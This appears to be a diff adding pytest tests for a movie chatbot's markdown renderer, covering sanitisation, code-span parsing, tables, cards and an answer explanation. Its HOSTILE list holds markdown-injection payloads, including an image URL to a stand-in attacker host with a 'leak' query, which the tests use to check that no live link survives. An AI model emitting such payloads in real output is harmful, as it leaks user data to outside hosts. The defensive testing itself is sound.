@@ -2,19 +2,26 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from chatbot.answer import Answer, Citation
-from chatbot.extractive import NO_LLM_CONFIGURED_NOTE, NO_LLM_NOTE
+from chatbot.extractive import NO_LLM_CONFIGURED_NOTE
+from chatbot.llm import NO_LLM_NOTE
 from chatbot.render import (
+    CARDS_UP_TO,
     answer_markdown,
     citation_numbers,
+    code_spans,
     describe_error,
     escape_markdown,
     fenced,
+    how_found,
     movie_cards,
     parse_chat_settings,
     poster_url,
+    presentation,
     rows_table,
     safe_markdown,
     step_markdown,
@@ -35,8 +42,50 @@ def test_safe_markdown_leaves_code_alone():
     assert safe_markdown(text) == text
 
 
-def test_safe_markdown_backslashes_cannot_unescape_brackets():
-    assert safe_markdown("\\[x\\](y)") == "\\\\\\[x\\\\\\](y)"
+def test_safe_markdown_keeps_escapes_as_they_are():
+    # an escaped bracket is already literal; an escaped backtick must stay escaped (not live)
+    assert safe_markdown("\\[x\\](y)") == "\\[x\\](y)"
+    assert safe_markdown("\\` x `![p](http://e.x/p.png)`") == "\\` x `![p](http://e.x/p.png)`"
+
+
+HOSTILE = [
+    "` ![p](http://evil.example/p.png?q=leak) ``",  # one backtick "closed" by two: not code
+    "``` ![p](http://evil.example/p.png)",  # a fence opener mid-line is not a fence... (it is at line start: code)
+    "x ``` ![p](http://evil.example/p.png)",  # mid-line: literal backticks, live image
+    "a `b` ![p](http://evil.example/p.png) `c",
+    "\\` ![p](http://evil.example/p.png) `",
+    "para `code\n\n![p](http://evil.example/p.png)` more",  # a code span cannot cross paragraphs
+    "| a | b |\n|---|---|\n| `x|![p](http://evil.example/p.png)` | y |",  # pipes split cells
+    "- item `one\n- ![p](http://evil.example/p.png) two`",
+    "> `q\n![p](http://evil.example/p.png)`",
+    "<img src=http://evil.example/p.png>",
+    "[click](http://evil.example) and <http://evil.example> and www.evil.example and x@evil.example",
+    "` http://evil.example ![p](http://evil.example/p.png)",
+    "Title: Alien](http://evil.example) ![x](//evil.example/p.png)",
+]
+
+
+def _html_outside_code(markdown: str) -> str:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").enable("table").render(markdown)
+    return re.sub(r"<pre>.*?</pre>|<code>.*?</code>", "", html, flags=re.S)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_safe_markdown_leaves_no_live_image_link_or_url_by_a_commonmark_parser(text):
+    """What a CommonMark renderer makes of the defused text: no image, no link, no HTML, and
+    no bare URL outside code (GFM would autolink it)."""
+    outside = _html_outside_code(safe_markdown(text))
+    assert "<img" not in outside and "<a " not in outside
+    assert not re.search(r"https?://|www\.|@evil", outside), outside
+
+
+def test_code_spans_follow_commonmark():
+    assert code_spans("a `b` c") == [(2, 5)]
+    assert code_spans("` x ``") == []  # no closer of the same length
+    assert code_spans("``a`b``") == [(0, 7)]
+    assert code_spans("\\`a` `b`") == [(3, 6)]  # the escaped backtick opens nothing: "` `" is the span
 
 
 def test_escape_markdown_escapes_everything_and_codes_urls():
@@ -113,8 +162,62 @@ def test_rows_table_columns_cells_and_refs():
 
 def test_rows_table_for_sql_aggregates():
     assert rows_table([{"director": "Steven Spielberg", "n": 10}]) == {
+        "open": False, "total": None,
         "columns": ["director", "n"], "rows": [{"ref": None, "cells": ["Steven Spielberg", "10"]}],
     }
+
+
+def test_rows_table_hides_columns_empty_in_every_row_and_states_the_total():
+    rows = [{"id": 1, "title": "Alien", "year": 1979, "avg_rating": None, "num_ratings": None},
+            {"id": 2, "title": "Heat", "year": 1995, "avg_rating": None, "num_ratings": None}]
+    table = rows_table(rows, {1: 1}, open_=True, total=40)
+    assert table["columns"] == ["title", "year"]  # no ratings loaded: no rating columns
+    assert (table["open"], table["total"]) == (True, 40)
+    assert rows_table(rows, total=2)["total"] is None  # every match is shown: no "of N"
+
+
+def test_cards_carry_a_placeholder_for_posters_that_cannot_load():
+    cards = movie_cards([{"id": 1, "title": "The Dark Knight"}, {"id": 2, "title": "Up"}, {"id": 3, "title": "The"}])
+    assert [c["initials"] for c in cards] == ["DK", "U", "T"]
+    assert all(0 <= c["hue"] < 360 for c in cards)
+    assert movie_cards([{"id": 1, "title": "Up"}])[0]["hue"] == cards[1]["hue"]  # stable per title
+
+
+def test_one_presentation_per_answer_kind():
+    few = _answer()
+    many = _answer(rows=[{"id": i, "title": f"T{i}"} for i in range(CARDS_UP_TO + 1)])
+    assert presentation(few) == "cards"
+    assert presentation(many) == "table"
+    assert presentation(_answer(plan={"intent": "fact"})) == "text"
+    assert presentation(_answer(plan={"intent": "count"})) == "text"
+    assert presentation(_answer(rows=[])) == "text"
+    # the cards and the table carry the citation numbers: no separate Sources line then
+    assert "Sources" not in answer_markdown(few, sources=False)
+
+
+def test_how_found_states_the_plan_k_metric_sql_and_timings_in_words():
+    answer = _answer(
+        route="similar", plan={"intent": "similar", "filters": {"exclude_ids": [7], "year": {"min": 1990}}},
+        plan_sql="SELECT id FROM movies WHERE year >= %(y)s", timings_ms={"understand": 3.0, "retrieve": 40.0},
+    )
+    text = how_found(answer, {"retrieve": {"total": 12}}, k=5, metric="jaccard", hybrid=True)
+    assert text.split("\n\n") == [
+        "**Read as:** films similar to a title",
+        "**Conditions:** leaving out the 1 title named; year 1990–…",
+        "**Nearest films:** k = 5, metric jaccard, vector search",
+        "**Matched:** 12 films in the whole catalog",
+        "**SQL that ran (from the plan):**",
+        "```sql\nSELECT id FROM movies WHERE year >= %(y)s\n```",
+        "**Written by:** llama3\\.1:8b",
+        "**Time:** 43 ms — reading the question 3 ms, searching the catalog 40 ms",
+    ]
+    assert "understand" not in text and "retrieve" not in text  # node names only in the debug view
+    listing = how_found(_answer(plan={"intent": "list", "filters": {"directors": {"any_of": ["Michael Mann"]}},
+                                      "sort": {"key": "duration_min", "desc": True}, "limit": 1}, model=None),
+                        {}, k=8, metric="cosine", hybrid=True)
+    assert "**Conditions:** directors any of: Michael Mann" in listing
+    assert "**Sorted by:** minutes (highest first, keeping 1)" in listing
+    assert "Nearest films" not in listing and "no model" in listing
 
 
 def test_step_texts():
